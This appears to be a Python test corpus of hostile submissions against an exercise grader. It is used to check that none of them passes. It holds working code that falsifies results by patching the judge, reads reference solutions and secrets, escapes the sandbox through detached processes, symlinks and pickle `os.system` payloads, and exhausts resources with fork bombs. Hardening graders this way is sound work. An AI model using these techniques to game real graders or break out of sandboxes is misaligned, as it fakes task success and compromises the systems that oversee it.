"""Answers that try to fool the judge, or to do harm; none earns a point.

The file is read, not imported. Each answer is laid over the untouched stub of task 17, or of
another `task`; helpers and imports are shared. `goal` says what it is after: a test that is
"green", a "secret", or what it "leaves" behind when it is over. `wins` says that it gets there where
it is judged in the judge's own process.
"""

import contextlib
import ctypes
import gc
import json
import os
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
from pathlib import Path

SECRET = "SECRET_OF_THE_TEST"
MARK = "MARK_OF_THE_TEST"  # a path outside that must not come to be


def tell(text):
    """What was found out, where a test sees it."""
    print(text)
    raise RuntimeError(text)


def read(*paths):
    whole = f"{SECRET}_"  # with what follows, which no answer has
    for path in paths:
        with contextlib.suppress(OSError):
            text = Path(path).read_text(errors="replace")[:5_000_000]
            if whole in text:
                tell(text[text.find(whole) :][:99])
    raise LookupError


def wire():
    """The cell's end of the wire, in a cell."""
    frame = sys._getframe()
    while frame is not None:
        far = frame.f_locals.get("self")
        if hasattr(far, "_connection"):
            return far._connection
        frame = frame.f_back
    raise LookupError


def reply(tree, *buffers):
    """Send something of one's own in the place of a reply, and be quiet from then on."""
    connection = wire()
    text = tree if isinstance(tree, bytes) else json.dumps(tree).encode()
    head = struct.pack(">II", len(text), len(buffers))
    head += struct.pack(f">{len(buffers)}Q", *map(len, buffers))
    connection.sendall(head + text + b"".join(buffers))
    time.sleep(3)
    os._exit(0)


def frames():
    frame = sys._getframe()
    while frame is not None:
        yield frame
        frame = frame.f_back


# Leaving early


@attack("leaves with a good exit status")
def calculate_class_weights(train_dataset, device):
    os._exit(0)


@attack("leaves as it is imported")
class overlay:
    os._exit(0)


@attack("exits")
def calculate_class_weights(train_dataset, device):
    sys.exit(0)


@attack("says that somebody interrupts the run")
def calculate_class_weights(train_dataset, device):
    raise KeyboardInterrupt


@attack("ends pytest")
def calculate_class_weights(train_dataset, device):
    import pytest

    pytest.exit("all done", 0)


@attack("skips its test")
def calculate_class_weights(train_dataset, device):
    import pytest

    pytest.skip("not today")


@attack("kills itself")
def calculate_class_weights(train_dataset, device):
    os.kill(os.getpid(), signal.SIGKILL)


@attack("kills its group")
def calculate_class_weights(train_dataset, device):
    os.killpg(0, signal.SIGKILL)


@attack("kills all that it may")
def calculate_class_weights(train_dataset, device):
    # Where it is not shut in, that would be this machine.
    if os.getpid() < 20:
        os.kill(-1, signal.SIGKILL)
    os._exit(0)


@attack("kills the one who started it")
def calculate_class_weights(train_dataset, device):
    if os.getppid() == 0 or os.getpid() == 1:
        with contextlib.suppress(OSError):
            os.kill(0, signal.SIGKILL)
    os._exit(0)


@attack("becomes another program")
def calculate_class_weights(train_dataset, device):
    os.execv("/bin/true", ["true"])


@attack("crashes the interpreter")
def calculate_class_weights(train_dataset, device):
    ctypes.string_at(0)


@attack("aborts")
def calculate_class_weights(train_dataset, device):
    os.abort()


# A judge that is patched


@attack("has the checks accept everything", wins=True)
def calculate_class_weights(train_dataset, device):
    from kata.judging import expect

    for name in ("that", "tensor", "instance", "equal", "close"):
        setattr(expect, name, lambda *args, **kwargs: None)


@attack("makes a mistake no error", wins=True)
def calculate_class_weights(train_dataset, device):
    from kata.judging import expect

    expect._length = expect._compare = lambda *args, **kwargs: None
    expect.instance.__code__ = expect.tensor.__code__ = (lambda *args, **kwargs: None).__code__


@attack("has all types be all types", wins=True)
def calculate_class_weights(train_dataset, device):
    class Anything(type):
        def __instancecheck__(cls, instance):
            return True

    from kata.judging import expect

    expect.tensor.__globals__["instance"] = lambda *args: None
    expect.tensor.__globals__["that"] = lambda *args: None

    class Shape:
        shape, dtype = (3,), "any"
        device = type("Device", (), {"type": "cpu"})

    import torch

    torch.isfinite = lambda value: torch.tensor([True])
    return Shape()


@attack("turns results green as they are made", wins=True)
def calculate_class_weights(train_dataset, device):
    from kata.judging import result
    from kata.plugin import judgement

    judgement.RED = "green"
    judgement.Judgement._turn_red = lambda self, item, call, report, result: setattr(
        result, "outcome", "green"
    )


@attack("turns the results in memory green", wins=True)
def calculate_class_weights(train_dataset, device):
    from kata.judging.result import Result

    Result.__setattr__ = lambda self, name, value: object.__setattr__(
        self, name, "green" if name == "outcome" else value
    )
    return None


@attack("gives the tests other bodies", wins=True)
def calculate_class_weights(train_dataset, device):
    for frame in frames():
        item = frame.f_locals.get("item")
        if item is not None and hasattr(item, "runtest"):
            for other in item.session.items:
                other.runtest = lambda: None
    for frame in frames():
        if "expect" in frame.f_globals:
            frame.f_globals["expect"].tensor.__code__ = (lambda *a, **k: None).__code__


@attack("has the report say passed", wins=True)
def calculate_class_weights(train_dataset, device):
    from kata.plugin.judgement import Judgement
    from kata.judging.result import Result

    plain = Result.as_data
    Result.as_data = lambda self: {**plain(self), "outcome": "green"}


@attack("looks the expected values up in the frames of the test")
def calculate_class_weights(train_dataset, device):
    for frame in frames():
        if "wanted" in frame.f_locals:
            import torch

            return torch.tensor(frame.f_locals["wanted"])
    raise LookupError


@attack("traces the judge, and has it return early", wins=True)
def calculate_class_weights(train_dataset, device):
    from kata.judging import expect

    def nothing(*args, **kwargs):
        return None

    for value in list(vars(expect).values()):
        if callable(value) and hasattr(value, "__code__"):
            with contextlib.suppress(ValueError):
                value.__code__ = nothing.__code__


@attack("patches as it is imported", wins=True)
class overlay:
    from kata.judging import expect

    expect.tensor.__code__ = (lambda *args, **kwargs: None).__code__

    def calculate_class_weights(train_dataset, device):
        return None


@attack("registers a plugin of its own", wins=True)
def calculate_class_weights(train_dataset, device):
    from kata.judging.result import Result

    gc.unfreeze()
    for found in gc.get_objects():
        if type(found).__name__ == "PytestPluginManager":

            class Mine:
                def pytest_runtest_logreport(self, report):
                    data = getattr(report, "kata_result", None)
                    if data:
                        data["outcome"] = "green"

            found.register(Mine(), "zzz-mine")


# Readers


@attack("reads the reference", goal="secret", wins=True)
def calculate_class_weights(train_dataset, device):
    read(*Path("COURSE/solutions").glob("*"))


@attack("reads the tests", goal="secret", wins=True)
def calculate_class_weights(train_dataset, device):
    read(*Path("COURSE/tests").rglob("*.py"))


@attack("reads another's answer", goal="secret", wins=True)
def calculate_class_weights(train_dataset, device):
    read(*Path("OTHERS").rglob("*"))


@attack("finds its way up from its own folder", goal="secret", wins=True)
def calculate_class_weights(train_dataset, device):
    here = Path(__file__).parent
    read(*[path for up in here.parents[:2] for path in up.rglob("*.py")])


@attack("reads the environment of the judge", goal="secret")
def calculate_class_weights(train_dataset, device):
    read("/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ")


@attack("looks into its own environment", goal="secret")
def calculate_class_weights(train_dataset, device):
    tell(" ".join(f"{key}={value}" for key, value in os.environ.items() if SECRET in value))


@attack("reads files that are open already", goal="secret")
def calculate_class_weights(train_dataset, device):
    found = []
    for number in range(3, 256):
        with contextlib.suppress(OSError):
            found.append(os.pread(number, 100_000, 0).decode(errors="replace"))
    tell(" ".join(text for text in found if SECRET in text))


@attack("reads the judge's memory", goal="secret")
def calculate_class_weights(train_dataset, device):
    for process in {os.getppid(), 1} - {os.getpid(), 0}:
        with contextlib.suppress(OSError):
            open(f"/proc/{process}/maps").read()
            open(f"/proc/{process}/mem", "rb")
            tell(SECRET)
    raise LookupError


@attack("traces its parent", goal="secret")
def calculate_class_weights(train_dataset, device):
    if ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0:
        tell(SECRET)
    raise LookupError


@attack("calls a server of this machine", goal="secret", wins=True)
def calculate_class_weights(train_dataset, device):
    with socket.create_connection(("127.0.0.1", int("PORT")), timeout=2) as there:
        tell(there.recv(100).decode())


@attack("asks a socket without a file", goal="secret", wins=True)
def calculate_class_weights(train_dataset, device):
    with socket.socket(socket.AF_UNIX) as there:
        there.settimeout(2)
        there.connect("\0SOCKET")
        tell(there.recv(100).decode())


@attack("reads the home of who judges", goal="secret", wins=True)
def calculate_class_weights(train_dataset, device):
    read("HOME/notes.txt")


@attack("follows a link of its own", goal="secret", wins=True)
def calculate_class_weights(train_dataset, device):
    Path("link").symlink_to("HOME/notes.txt")
    read("link")


@attack("mounts what it may not see", goal="secret")
def calculate_class_weights(train_dataset, device):
    libc = ctypes.CDLL(None)
    libc.unshare(0x10000000 | 0x00020000)
    os.makedirs("there", exist_ok=True)
    if libc.mount(b"/proc", b"there", b"proc", 0, None) == 0 and os.getpid() < 20:
        tell(SECRET)
    raise LookupError


# Harm


@attack("writes into the course", goal="leaves", wins=True)
def calculate_class_weights(train_dataset, device):
    Path(MARK).write_text("here")


@attack("makes a file by way of a link", goal="leaves", wins=True)
def calculate_class_weights(train_dataset, device):
    Path("link").symlink_to(Path(MARK).parent)
    (Path("link") / Path(MARK).name).write_text("here")


@attack("leaves a process behind", goal="leaves", wins=True)
def calculate_class_weights(train_dataset, device):
    if not os.fork():
        os.setsid()
        if os.fork():
            os._exit(0)
        with contextlib.suppress(OSError):
            for number in range(256):
                os.close(number)
        time.sleep(4)
        Path(MARK).write_text("here")
        os._exit(0)


@attack("starts a program that outlives it", goal="leaves", wins=True)
def calculate_class_weights(train_dataset, device):
    program = f"import time; time.sleep(4); open({MARK!r}, 'w')"
    subprocess.Popen([sys.executable, "-c", program], start_new_session=True)


@attack("hands a file out that lies elsewhere", goal="leaves")
def calculate_class_weights(train_dataset, device):
    good = {"result": None, "files": [["../../../../../../../.." + MARK, 0]]}
    reply(good, b"here")


@attack("hands a file out by its whole path", goal="leaves")
def calculate_class_weights(train_dataset, device):
    reply({"result": None, "files": [[MARK, 0]]}, b"here")


@attack("forks and forks")
def calculate_class_weights(train_dataset, device):
    if os.getpid() > 20:
        raise LookupError  # not in a cell: spare this machine
    while True:
        with contextlib.suppress(OSError):
            os.fork()


@attack("starts threads without end")
def calculate_class_weights(train_dataset, device):
    if os.getpid() > 20:
        raise LookupError
    while True:
        threading.Thread(target=time.sleep, args=(60,)).start()


@attack("fills the memory")
def calculate_class_weights(train_dataset, device):
    if os.getpid() > 20:
        raise LookupError
    kept = []
    while True:
        kept.append(bytearray(64 << 20))


@attack("fills the disk")
def calculate_class_weights(train_dataset, device):
    if os.getpid() > 20:
        raise LookupError
    with open("large", "wb") as file:
        while True:
            file.write(bytes(16 << 20))


@attack("fills the shared memory")
def calculate_class_weights(train_dataset, device):
    if os.getpid() > 20:
        raise LookupError
    with open("/dev/shm/large", "wb") as file:
        while True:
            file.write(bytes(16 << 20))


@attack("makes files without end")
def calculate_class_weights(train_dataset, device):
    if os.getpid() > 20:
        raise LookupError
    for number in range(10**7):
        Path(f"file{number}").touch()


@attack("hands out more files than a task asks for")
def calculate_class_weights(train_dataset, device):
    for number in range(3_000):
        Path(f"file{number}").touch()
    raise LookupError


@attack("prints without end")
def calculate_class_weights(train_dataset, device):
    while True:
        print("x" * 100_000)


@attack("opens files without end")
def calculate_class_weights(train_dataset, device):
    kept = []
    while True:
        kept.append(open("/dev/null"))


@attack("calls itself without end")
def calculate_class_weights(train_dataset, device):
    sys.setrecursionlimit(10**8)
    return calculate_class_weights(train_dataset, device)


@attack("never comes back")
def calculate_class_weights(train_dataset, device):
    while True:
        pass


@attack("sleeps, and swallows every alarm")
def calculate_class_weights(train_dataset, device):
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    while True:
        with contextlib.suppress(BaseException):
            time.sleep(100)


@attack("blocks all signals, and hangs in compiled code")
def calculate_class_weights(train_dataset, device):
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))
    import re

    re.match(r"(a+)+$", "a" * 60 + "b")


@attack("stops the clocks")
def calculate_class_weights(train_dataset, device):
    time.monotonic = time.perf_counter = time.process_time = lambda: 0.0
    while True:
        pass


@attack("wants to live on when the judge is gone")
def calculate_class_weights(train_dataset, device):
    if ctypes.CDLL(None).prctl(1, 0, 0, 0, 0) == 0 and os.getpid() < 20:
        tell("it may")
    raise LookupError


# Lies on the wire


@attack("sends noise")
def calculate_class_weights(train_dataset, device):
    wire().sendall(os.urandom(4_000))
    os._exit(0)


@attack("sends half a message")
def calculate_class_weights(train_dataset, device):
    wire().sendall(struct.pack(">II", 1_000, 0) + b'{"result"')
    os._exit(0)


@attack("promises more than there is memory")
def calculate_class_weights(train_dataset, device):
    wire().sendall(struct.pack(">II", 2, 1) + struct.pack(">Q", 1 << 60) + b"{}")
    time.sleep(60)


@attack("promises a text of four gigabytes")
def calculate_class_weights(train_dataset, device):
    wire().sendall(struct.pack(">II", 2**32 - 1, 0))
    time.sleep(60)


@attack("promises four billion arrays")
def calculate_class_weights(train_dataset, device):
    wire().sendall(struct.pack(">II", 2, 2**32 - 1))
    time.sleep(60)


@attack("trickles a reply, byte by byte")
def calculate_class_weights(train_dataset, device):
    connection = wire()
    connection.sendall(struct.pack(">II", 10_000, 0))
    while True:
        connection.sendall(b" ")
        time.sleep(0.5)


@attack("nests lists in lists")
def calculate_class_weights(train_dataset, device):
    reply(b'{"result": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")


@attack("nests values in values")
def calculate_class_weights(train_dataset, device):
    tree = None
    for _ in range(300):
        tree = ["list", [tree]]
    reply({"result": tree})


@attack("sends a million values")
def calculate_class_weights(train_dataset, device):
    reply({"result": ["list", [1] * 1_500_000]})


@attack("sends a number of a million digits")
def calculate_class_weights(train_dataset, device):
    reply(b'{"result": ' + b"9" * 1_000_000 + b"}")


@attack("lies about a shape")
def calculate_class_weights(train_dataset, device):
    reply({"result": ["tensor", "float32", [10**9, 10**9], False, 0]}, b"1234")


@attack("has a shape below nothing")
def calculate_class_weights(train_dataset, device):
    reply({"result": ["tensor", "float32", [-1, -3], False, 0]}, b"123412341234")


@attack("has a shape of floats")
def calculate_class_weights(train_dataset, device):
    reply({"result": ["array", "<f4", [3.0], 0]}, b"123412341234")


@attack("has an array of objects")
def calculate_class_weights(train_dataset, device):
    reply({"result": ["array", "|O", [1], 0]}, bytes(8))


@attack("has an array of records")
def calculate_class_weights(train_dataset, device):
    reply({"result": ["array", "V1000000000", [1], 0]}, bytes(8))


@attack("names bytes that did not come")
def calculate_class_weights(train_dataset, device):
    reply({"result": ["tensor", "float32", [3], False, 7]}, bytes(12))


@attack("names an argument that there was not")
def calculate_class_weights(train_dataset, device):
    reply({"result": ["same", 99]})


@attack("asks for a class of the judge's", goal="leaves")
def calculate_class_weights(train_dataset, device):
    reply({"result": ["handle", 0, ["os:system", "subprocess:Popen", "builtins:type"], "x"]})


@attack("sends a pickle", goal="leaves")
def calculate_class_weights(train_dataset, device):
    import pickle

    class Run:
        def __reduce__(self):
            return os.system, (f"touch {MARK}",)

    wire().sendall(pickle.dumps(Run()))
    os._exit(0)


@attack("returns what runs when it is unpickled", goal="leaves")
def calculate_class_weights(train_dataset, device):
    class Run:
        def __reduce__(self):
            return os.system, (f"touch {MARK}",)

    return Run()


@attack("claims to be a model as large as the memory")
def calculate_class_weights(train_dataset, device):
    config = json.dumps({"vocab_size": 10**9, "dim": 10**6})
    state = [[], [], [], []]
    reply({"result": ["model", "DistilBertForSequenceClassification", config, state]})


@attack("claims to be a model that is none")
def calculate_class_weights(train_dataset, device):
    reply({"result": ["model", "AutoModel", "{}", [[], [], [], []]]})


@attack("claims a model with code of its own", goal="leaves")
def calculate_class_weights(train_dataset, device):
    config = json.dumps({"auto_map": {"AutoModel": f"{MARK}--x.Y"}, "trust_remote_code": True})
    reply({"result": ["model", "DistilBertModel", config, [[], [], [], []]]})


@attack("raises what only the judge raises")
def calculate_class_weights(train_dataset, device):
    error = {"names": ["Skipped", "Exception"], "message": "", "places": [], "import": False}
    reply({"error": {**error, "names": ["Exit", "BaseException"]}})


@attack("has its error end the judge")
def calculate_class_weights(train_dataset, device):
    names = ["KeyboardInterrupt", "SystemExit", "GeneratorExit", "BaseException"]
    reply({"error": {"names": names, "message": "0", "places": [], "import": False}})


@attack("has an error with a name of a thousand letters")
def calculate_class_weights(train_dataset, device):
    raise type("E" * 1_000 + "\n\x1b[2J<script>", (Exception,), {})("x" * 10**6)


@attack("replies without a word")
def calculate_class_weights(train_dataset, device):
    reply({})


@attack("replies with a list")
def calculate_class_weights(train_dataset, device):
    reply([1, 2, 3])


@attack("changes what was never given")
def calculate_class_weights(train_dataset, device):
    reply({"result": None, "changed": [[0, ["object", [["__class__", ["value", 1]]]]], [5, []]]})


# Objects that lie


@attack("returns an object that equals everything")
def calculate_class_weights(train_dataset, device):
    class Equal:
        shape, dtype, device = (3,), None, None

        def __eq__(self, other):
            return True

        def __getattr__(self, name):
            return self

        def __call__(self, *args, **kwargs):
            return self

    return Equal()


@attack("returns an object that says it is a tensor", wins=True)
def calculate_class_weights(train_dataset, device):
    import torch

    class Lie(torch.Tensor):
        @classmethod
        def __torch_function__(cls, function, types, args=(), kwargs=None):
            return torch.tensor([True])

        shape = property(lambda self: (3,))
        dtype = property(lambda self: torch.float32)
        device = property(lambda self: torch.device("cpu"))

    return Lie()


@attack("returns a sequence that never ends")
def calculate_class_weights(train_dataset, device):
    class Endless(list):
        def __len__(self):
            return 3

        def __iter__(self):
            while True:
                yield 1.0

    return Endless()


@attack("returns a class that lies about itself")
def calculate_class_weights(train_dataset, device):
    import torch

    class Lie:
        __class__ = torch.Tensor
        shape, dtype, device = (3,), torch.float32, torch.device("cpu")

    return Lie()


@attack("returns a tensor that is laid out in another way")
def calculate_class_weights(train_dataset, device):
    import torch

    return torch.ones(3).to_sparse()


@attack("hands out modules that the judge might import", goal="leaves")
def calculate_class_weights(train_dataset, device):
    names = ["statistics.py", "conftest.py", "torch.py", "kata/__init__.py", "sitecustomize.py"]
    reply({"result": None, "files": [[name, 0] for name in names]}, f"open({MARK!r}, 'w')".encode())


@attack("changes the judge's copy to fit its answer")
def calculate_class_weights(train_dataset, device):
    labels = ["value", ["list", [0] * len(train_dataset.dataset.labels)]]
    data = ["object", [["labels", labels]]]
    places = ["value", ["list", list(range(len(train_dataset.indices)))]]
    one = struct.pack("<f", 1.0)
    changed = [[0, ["object", [["dataset", data], ["indices", places]]]]]
    reply({"result": ["tensor", "float32", [1], False, 0], "changed": changed}, one)


@attack("never reads what it is sent")
def calculate_class_weights(train_dataset, device):
    connection = wire()
    text = json.dumps({"result": None}).encode()
    connection.sendall(struct.pack(">II", len(text), 0) + text)
    while True:
        time.sleep(60)


@attack("answers before it is asked")
def calculate_class_weights(train_dataset, device):
    connection = wire()
    one = struct.pack("<f", 1.0)
    text = json.dumps({"result": ["tensor", "float32", [1], False, 0]}).encode()
    message = struct.pack(">IIQ", len(text), 1, len(one)) + text + one
    connection.sendall(message * 500)
    time.sleep(3)
    os._exit(0)


# What the judge makes of what it is told


@attack("names the same bytes again and again")
def calculate_class_weights(train_dataset, device):
    tensor = ["tensor", "uint8", [16 << 20], False, 0]
    reply({"result": ["list", [tensor] * 10_000]}, bytes(16 << 20))


@attack("sends numbers that all have one hash")
def calculate_class_weights(train_dataset, device):
    numbers = [["int", hex((2**61 - 1) * i)] for i in range(200_000)]
    reply({"result": ["set", numbers]})


@attack("writes files without end")
def calculate_class_weights(train_dataset, device):
    connection = wire()
    tree = {"result": None, "files": [["large", 0]]}
    text, data = json.dumps(tree).encode(), bytes(400 << 20)
    head = struct.pack(">IIQ", len(text), 1, len(data))
    for _ in range(8):
        connection.sendall(head + text + data)
    os._exit(0)


@attack("is what the judge's library unpickles when it is copied", goal="leaves", task="task20")
class overlay:
    import pickle

    from kata.grading.far import Far

    KIND = "torch.utils.data.datapipes.datapipe:_DataPipeSerializationWrapper"

    class Payload:
        def __reduce__(self):
            return exec, (f"import pathlib; pathlib.Path({MARK!r}).touch()",)

    class Wrapped:
        pass

    def make(*args):
        return Wrapped()

    def reduce(*args):
        return make, (), (pickle.dumps(Payload()), False)

    keep = Far._keep
    asked, changed = [], []

    def keeps(self, value):
        number, kinds, name = keep(self, value)
        return number, [KIND] if isinstance(value, Wrapped) else kinds, name

    def tells(self, writer):
        tokens = [token for token, value in self._given.items() if value in changed]
        changed.clear()
        tree = ["object", [["__reduce_ex__", ["value", writer.tree(reduce)]]]]
        return [[token, tree] for token in tokens]

    Far._keep, Far._tell_changes = keeps, tells

    def predict_category(model, tokenizer, text, device, id2cat):
        if text in asked:  # a copy is made after that
            changed.append(model)
        asked.append(text)
        return "question"


@attack("is a reader of files, which the judge reads", goal="leaves", task="task16")
class overlay:
    from kata.grading.far import Far

    KINDS = (
        "torch.utils.data.datapipes.iter.fileopener:FileOpenerIterDataPipe",
        "torch.utils.data.dataloader:DataLoader",
    )

    class Pipe:
        datapipe, mode, encoding = [MARK], "w", None
        _valid_iterator_id = _fast_forward_iterator = _snapshot_state = None
        _is_child_datapipe = _restored = False
        _number_of_samples_yielded = 0

        def reset(self):
            pass

    keep = Far._keep

    def keeps(self, value):
        number, kinds, name = keep(self, value)
        return number, list(KINDS) if isinstance(value, Pipe) else kinds, name

    Far._keep = keeps

    def create_dataloaders(train_dataset, val_dataset, batch_size, collate_fn):
        return Pipe(), Pipe()
